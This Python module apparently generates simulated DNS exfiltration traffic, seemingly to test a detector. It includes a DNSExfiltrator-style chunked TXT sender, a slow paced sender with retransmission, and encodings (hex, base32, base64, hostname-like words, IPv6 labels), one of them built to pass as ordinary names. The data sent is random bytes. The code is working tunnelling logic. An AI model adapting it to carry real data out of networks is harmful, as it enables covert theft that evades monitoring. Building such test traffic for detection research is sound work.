# SPDX-License-Identifier: GPL-3.0-or-later
"""Senders of stolen data that need no tool: how bytes become names, one like DNSExfiltrator, slow ones."""
import base64
import os
import random
import socket
import threading
import time

import dns.message

WORDS_PATH = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "..", "tools", "train",
                          "host_labels.txt")
N_WORDS = 128  # seven bits each


def pieces(text, size=63):
    return [text[i:i + size] for i in range(0, len(text), size)]


def as_hex(data):
    return ".".join(pieces(data.hex(), 62))


def as_base32(data):
    return ".".join(pieces(base64.b32encode(data).decode().rstrip("=").lower()))


def as_base64(data):
    return ".".join(pieces(base64.urlsafe_b64encode(data).decode().rstrip("=")))


def host_words():
    """The commonest labels of hosts: what costs least in any model of ordinary names."""
    with open(WORDS_PATH) as f:
        return [line.split()[0] for line in f if line.strip() and line[0] != "#"][:N_WORDS]


def as_words(data, words=tuple(host_words())):
    """Seven bits a word, five words a label."""
    value, n = int.from_bytes(data, "big"), -(-len(data) * 8 // 7)
    digits = [words[value >> 7 * i & 127] for i in range(n)]
    return ".".join("-".join(digits[i:i + 5]) for i in range(0, n, 5))


def as_address(data):
    """As hosts are named by IPv6 addresses, and asked for as such (AAAA): eight groups of four digits a label."""
    return ".".join("-".join(pieces(part.hex(), 4)) for part in (data[i:i + 16] for i in range(0, len(data), 16)))


ENCODINGS = {"hex": (as_hex, "A"), "base32": (as_base32, "A"), "base64": (as_base64, "A"), "words": (as_words, "A"),
             "ipv6": (as_address, "AAAA")}


# Weir writes letters in a case of its own: of the six bits of a digit 52/64 x 5 + 12/64 x 6 arrive.
ARRIVES = {"base64": 332 / 384}


class Exfiltrator:
    """As DNSExfiltrator does: `init`, then number and chunk, as TXT, as large as the request size allows."""

    def __init__(self, resolver, source, domain, answerer, request_bytes, encode, limit_s, file_bytes=20000):
        self.resolver, self.source, self.domain, self.answerer = resolver, source, domain, answerer
        self.encode, self.end = encode, time.monotonic() + limit_s
        room = request_bytes - len(domain) - 2 - 12  # number and dots
        per_char = {"base64": 6, "base32": 5}[encode] / 8
        self.chunk = int((room - room // 63) * per_char)
        self.data = random.Random(7).randbytes(file_bytes)
        self.sent, self.is_done = {}, False

    def name_of(self, i):
        part = self.data[i * self.chunk:(i + 1) * self.chunk]
        return f"{i}.{ENCODINGS[self.encode][0](part)}.{self.domain}", len(part)

    def run(self):
        n = -(-len(self.data) // self.chunk)
        first = base64.b32encode(f"stolen.zip|{n}".encode()).decode().rstrip("=")
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.bind((self.source, 0))
            s.settimeout(2)
            s.connect((self.resolver, 53))
            self.ask(s, f"init.{first}.{self.encode}.{self.domain}")
            for i in range(n):
                name, size = self.name_of(i)
                self.sent[name.lower()] = size
                self.ask(s, name)
                if time.monotonic() > self.end:
                    return
        self.is_done = True

    @staticmethod
    def ask(s, name):
        for _ in range(2):
            try:
                s.send(dns.message.make_query(name, "TXT").to_wire())
                s.recv(65535)
                return
            except OSError:
                continue

    def payload(self):
        """Bytes of the file that arrived."""
        return sum(size for name, size in self.sent.items() if name in self.answerer.arrived)


class Slow:
    """One client that sends a chunk each so many seconds to its domains in turn, and again what did not arrive."""

    def __init__(self, resolver, source, domains, answerer, cell, speed):
        self.resolver, self.source, self.domains, self.answerer = resolver, source, domains, answerer
        self.spacing_s, self.size, self.encode = cell.spacing_s / speed, cell.size, cell.encode
        self.sent, self.is_ending = {}, False
        self.rng = random.Random(source)
        self.thread = threading.Thread(target=self.run, daemon=True)

    def run(self):
        encode, rdtype = ENCODINGS[self.encode]
        at, again = time.monotonic(), []
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.bind((self.source, 0))
            s.setblocking(False)
            for i in range(1 << 40):
                if self.is_ending:
                    return
                while again and again[0] in self.answerer.arrived:
                    again.pop(0)
                if len(again) > 20:  # as malware does that waits for an acknowledgement
                    name = again[i % 20]
                else:
                    name = "x" * 300
                    while len(name) > 250:  # long words may not fit: other data, then
                        name = f"{encode(self.rng.randbytes(self.size))}.{self.domains[i % len(self.domains)]}".lower()
                    self.sent[name] = self.size
                    again.append(name)
                try:
                    while s.recv(65535):
                        pass
                except OSError:
                    pass
                s.sendto(dns.message.make_query(name, rdtype).to_wire(), (self.resolver, 53))
                at += self.spacing_s
                time.sleep(max(0.0, at - time.monotonic()))

    def arrivals(self):
        """[(when, bytes)] of what arrived."""
        share = ARRIVES.get(self.encode, 1)
        return sorted((self.answerer.arrived[n], size * share) for n, size in self.sent.items() if n in self.answerer.arrived)
